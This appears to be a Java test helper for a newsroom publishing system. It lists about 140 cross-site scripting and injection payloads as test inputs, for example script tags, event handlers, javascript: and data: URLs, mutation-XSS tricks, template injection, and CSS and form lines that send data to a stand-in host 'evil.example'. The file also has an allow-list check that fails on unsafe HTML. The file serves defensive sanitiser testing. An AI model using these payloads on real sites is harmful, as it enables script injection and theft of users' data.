package press.gazette.newsroom;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import java.util.Map;
import java.util.Set;

import org.jsoup.Jsoup;
import org.jsoup.nodes.Attribute;
import org.jsoup.nodes.Comment;
import org.jsoup.nodes.Document;
import org.jsoup.nodes.Element;

/** Texts that attempt script injection, and a check for HTML without scripts. */
public final class Injections {

    /**
     * Scripts, handlers, schemes, foreign vocabularies, parser confusion, Markdown's ways to each of them, and the
     * delimiters of JSON, XML and templates around a text.
     */
    public static final List<String> VECTORS = List.of(
            "<script>alert(1)</script>",
            "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
            "<scr<script>ipt>alert(1)</scr</script>ipt>",
            "<script/x>alert(1)</script>",
            "<img src=x onerror=alert(1)>",
            "<img src=\"javascript:alert(1)\">",
            "<img src='https://a.example/1.jpg' onload=alert(1)>",
            "<img src=`javascript:alert(1)`>",
            "<img \"\"\"><script>alert(1)</script>\">",
            "<img src=//evil.example/pixel.gif>",
            "<img src='/\\evil.example/pixel.gif'>",
            "<img src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">",
            "<img src=/a.jpg alt='\"><script>alert(1)</script>'>",
            "<svg onload=alert(1)>",
            "<svg><script>alert(1)</script></svg>",
            "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
            "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
            "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
            "<math href=\"javascript:alert(1)\">click</math>",
            "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
            "<iframe src=\"javascript:alert(1)\"></iframe>",
            "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
            "<object data=\"javascript:alert(1)\"></object>",
            "<embed src=\"javascript:alert(1)\">",
            "<a href=\"javascript:alert(1)\">x</a>",
            "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
            "<a href=\" &#14; javascript:alert(1)\">x</a>",
            "<a href=\"java\tscript:alert(1)\">x</a>",
            "<a href=\"java&#10;script:alert(1)\">x</a>",
            "<a href=\"javascript&colon;alert(1)\">x</a>",
            "<a href=\"&#x6A;&#x61;vascript:alert(1)\">x</a>",
            "<a href=\"\u0001javascript:alert(1)\">x</a>",
            "<a href=\"vbscript:msgbox(1)\">x</a>",
            "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
            "<a href=\"blob:https://a.example/x\">x</a>",
            "<a href=\"file:///etc/passwd\">x</a>",
            "<a href=\"//evil.example\">x</a>",
            "<a href='https://a.example/\" onmouseover=\"alert(1)'>x</a>",
            "<a href=https://a.example/ style=position:fixed;inset:0 onclick=alert(1)>x</a>",
            "<p style=\"background:url(javascript:alert(1))\">x</p>",
            "<div onclick=alert(1) id=x class=y data-z=1>x</div>",
            "<body onload=alert(1)>x",
            "<style>@import 'https://evil.example/x.css';</style>",
            "<link rel=stylesheet href=https://evil.example/x.css>",
            "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
            "<base href=https://evil.example/>",
            "<form action=https://evil.example><input name=password><button>x</button></form>",
            "<textarea></textarea><script>alert(1)</script>",
            "<textarea><img title=\"</textarea><img src=x onerror=alert(1)>\">",
            "<title><img title=\"</title><img src=x onerror=alert(1)>\">",
            "<xmp><p title=\"</xmp><svg onload=alert(1)>\">",
            "<template><script>alert(1)</script></template>",
            "<video src=x onerror=alert(1)></video>",
            "<audio src=x onerror=alert(1)></audio>",
            "<details open ontoggle=alert(1)>x</details>",
            "<marquee onstart=alert(1)>x</marquee>",
            "<!--><img src=x onerror=alert(1)>-->",
            "<!--[if IE]><script>alert(1)</script><![endif]-->",
            "<![CDATA[<script>alert(1)</script>]]>",
            "<?xml-stylesheet href=\"javascript:alert(1)\"?>",
            "&lt;script&gt;alert(1)&lt;/script&gt;",
            "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
            "<pre><code class='language-\"><script>alert(1)</script>'>&lt;/code>&lt;script>alert(1)&lt;/script></code></pre>",
            "<figure data-embed='x\" onclick=\"alert(1)'><a href=https://a.example/>x</a></figure>",
            "<figure data-embed=youtube><a href=javascript:alert(1)>x</a></figure>",
            "<figure><img src=/a.jpg><figcaption><script>alert(1)</script><img src=x onerror=alert(1)>\"></figcaption></figure>",
            "<blockquote>a<footer><svg onload=alert(1)>\"><script>alert(1)</script></footer></blockquote>",
            "[x](javascript:alert(1))",
            "[x](JAVASCRIPT:alert(1))",
            "[x](<java\nscript:alert(1)>)",
            "[x](java&Tab;script:alert(1))",
            "[x](javascript&#58;alert(1))",
            "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
            "[x]\n\n[x]: javascript:alert(1)",
            "[x](https://a.example/ '\" onclick=\"alert(1)')",
            "[x](https://a.example/\"onmouseover=\"alert(1))",
            "![x](javascript:alert(1))",
            "![\"onerror=\"alert(1)](/a.jpg)",
            "![x](/a.jpg '\"><script>alert(1)</script>')",
            "<javascript:alert(1)>",
            "`<script>alert(1)</script>`",
            "```html\"><script>alert(1)</script>\n</code></pre><script>alert(1)</script>\n```",
            "    <script>alert(1)</script>",
            "text <b onclick=alert(1)>x</b> <script>alert(1)</script>",
            "> <script>alert(1)</script>\n>\n> -- <img src=x onerror=alert(1)>",
            "[x](https://a.example \"embed:x' onclick='alert(1)\")",
            "\\<script>alert(1)\\</script>",
            "]]><script>alert(1)</script><![CDATA[",
            "]]&gt;<script>alert(1)</script>",
            "<!ENTITY x SYSTEM \"file:///etc/passwd\">&x;",
            "<!DOCTYPE x [<!ENTITY a \"b\">]><x>&a;</x>",
            "--><script>alert(1)</script><!--",
            "</title></item></channel><script>alert(1)</script>",
            "</script><script>alert(1)</script>",
            "\"}]}</script><script>alert(1)</script>",
            "';alert(1);//",
            "\" autofocus onfocus=alert(1) x=\"",
            "' style='width:expression(alert(1))",
            "<div style=\"background-image:url(javascript:alert(1))\">x</div>",
            "<div style=\"behavior:url(#default#time2)\">x</div>",
            "<div style=\"-moz-binding:url(https://evil.example/x.xml#x)\">x</div>",
            "<style>*{background:url('https://evil.example/?')}</style>",
            "<style>input[value^=a]{background:url(https://evil.example/a)}</style>",
            "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
            "<math><maction actiontype=\"statusline#https://evil.example\" xlink:href=\"javascript:alert(1)\">x</maction></math>",
            "<math><annotation-xml encoding=\"text/html\"><img src=x onerror=alert(1)></annotation-xml></math>",
            "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
            "<svg><set attributeName=href to=javascript:alert(1)><a><text>x</text></a></svg>",
            "<svg><use href=\"data:image/svg+xml;base64,PHN2Zy8+#x\"/></svg>",
            "<svg><foreignObject><iframe srcdoc=\"<script>alert(1)</script>\"></iframe></foreignObject></svg>",
            "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
            "<table><td><svg><desc><table><tr><td onmouseover=alert(1)>x</table></desc></svg>",
            "<a href=\"https://a.example/\u202e//gpj.exe\">x</a>",
            "<a href=\"javascript:alert(1)//https://a.example\">x</a>",
            "<a href=\"view-source:javascript:alert(1)\">x</a>",
            "<a href=\"jar:https://a.example!/x\">x</a>",
            "<a ping=https://evil.example href=https://a.example/>x</a>",
            "<a target=_blank download=x.exe href=https://a.example/>x</a>",
            "<img srcset=\"javascript:alert(1) 2x\" src=/a.jpg>",
            "<img usemap=#x src=/a.jpg><map name=x><area href=javascript:alert(1)></map>",
            "<input type=image src=x onerror=alert(1)>",
            "<isindex action=javascript:alert(1) type=image>",
            "<button formaction=javascript:alert(1)>x</button>",
            "<portal src=javascript:alert(1)></portal>",
            "<frameset onload=alert(1)><frame src=javascript:alert(1)></frameset>",
            "<applet code=x archive=https://evil.example/x.jar></applet>",
            "<slot onslotchange=alert(1)></slot><x-y onclick=alert(1)>x</x-y>",
            "{{constructor.constructor('alert(1)')()}}",
            "${alert(1)} <%= alert(1) %> #{alert(1)}",
            "=HYPERLINK(\"https://evil.example\",\"x\")",
            "[x]: javascript:alert(1) \"t\"\n\n[x][x]",
            "![x][y]\n\n[y]: data:image/svg+xml,<svg/onload=alert(1)>",
            "<https://a.example/\"onclick=alert(1)>",
            "[![x](javascript:alert(1))](javascript:alert(2))",
            "| a |\n|---|\n| <script>alert(1)</script> |");

    /** A second copy of the allow-list, so that a change to the first one is noticed. */
    private static final Map<String, Set<String>> ALLOWED = Map.ofEntries(
            Map.entry("p", Set.of()),
            Map.entry("h2", Set.of("id")),
            Map.entry("h3", Set.of("id")),
            Map.entry("h4", Set.of("id")),
            Map.entry("blockquote", Set.of("class")),
            Map.entry("ul", Set.of()),
            Map.entry("ol", Set.of("start")),
            Map.entry("li", Set.of("id")),
            Map.entry("pre", Set.of()),
            Map.entry("code", Set.of("class")),
            Map.entry("hr", Set.of()),
            Map.entry("br", Set.of()),
            Map.entry("a", Set.of("href", "rel", "title", "data-article")),
            Map.entry("strong", Set.of()),
            Map.entry("em", Set.of()),
            Map.entry("sub", Set.of()),
            Map.entry("sup", Set.of("id")),
            Map.entry("s", Set.of()),
            Map.entry("u", Set.of()),
            Map.entry("mark", Set.of()),
            Map.entry("cite", Set.of()),
            Map.entry("abbr", Set.of("title")),
            Map.entry("time", Set.of("datetime")),
            Map.entry("ruby", Set.of()),
            Map.entry("rp", Set.of()),
            Map.entry("rt", Set.of()),
            Map.entry("span", Set.of()),
            Map.entry(
                    "figure",
                    Set.of(
                            "data-embed",
                            "data-gallery",
                            "data-role",
                            "data-media",
                            "data-duration",
                            "data-file",
                            "data-size",
                            "data-width",
                            "data-height")),
            Map.entry("figcaption", Set.of()),
            Map.entry("small", Set.of("class")),
            Map.entry("img", Set.of("src", "alt", "width", "height", "loading")),
            Map.entry("table", Set.of("data-table")),
            Map.entry("caption", Set.of()),
            Map.entry("thead", Set.of()),
            Map.entry("tbody", Set.of()),
            Map.entry("tr", Set.of()),
            Map.entry("th", Set.of("scope", "colspan", "rowspan")),
            Map.entry("td", Set.of("colspan", "rowspan")),
            Map.entry("video", Set.of("controls", "preload", "src", "poster", "width", "height")),
            Map.entry("audio", Set.of("controls", "preload", "src")),
            Map.entry("track", Set.of("kind", "src", "srclang", "label")),
            Map.entry("details", Set.of("data-transcript")),
            Map.entry("summary", Set.of()),
            Map.entry("aside", Set.of("data-box")),
            Map.entry("header", Set.of()),
            Map.entry("section", Set.of("data-notes")));

    /** On every element. */
    private static final Set<String> SPOKEN = Set.of("lang", "dir");

    private Injections() {}

    /** Fails on anything that could run, load or disguise itself. */
    public static void assertHarmless(String html) {
        Document document = Jsoup.parseBodyFragment(html);
        document.traverse((node, depth) -> assertThat(node).as(html).isNotInstanceOf(Comment.class));
        for (Element element : document.body().getAllElements()) {
            if (!element.equals(document.body())) {
                assertThat(ALLOWED).as(html).containsKey(element.normalName());
                element.attributes().forEach(attribute -> assertAllowed(element, attribute, html));
            }
        }
    }

    private static void assertAllowed(Element element, Attribute attribute, String html) {
        String name = attribute.getKey();
        assertThat(SPOKEN.contains(name) || ALLOWED.get(element.normalName()).contains(name))
                .as(name + " in " + html)
                .isTrue();
        switch (name) {
            case "href" ->
                assertThat(attribute.getValue()).as(html).matches("(?i)(https?://[^/]|mailto:|tel:|/(?![/\\\\])|#.).*");
            case "src", "poster" ->
                assertThat(attribute.getValue()).as(html).matches("(?i)(https?://[^/]|/(?![/\\\\])).*");
            case "class" ->
                assertThat(attribute.getValue()).as(html).matches("language-[A-Za-z0-9+#._-]+|pullquote|credit");
            case "id" -> assertThat(attribute.getValue()).as(html).matches("[\\p{L}\\p{M}\\p{N}_.:-]+");
            case "data-article" -> assertThat(attribute.getValue()).as(html).matches("[0-9a-f-]{36}");
            case "lang" -> assertThat(attribute.getValue()).as(html).matches("[A-Za-z0-9-]+");
            case "dir" -> assertThat(attribute.getValue()).as(html).matches("ltr|rtl|auto");
            default -> assertThat(attribute.getKey()).doesNotStartWith("on");
        }
    }
}
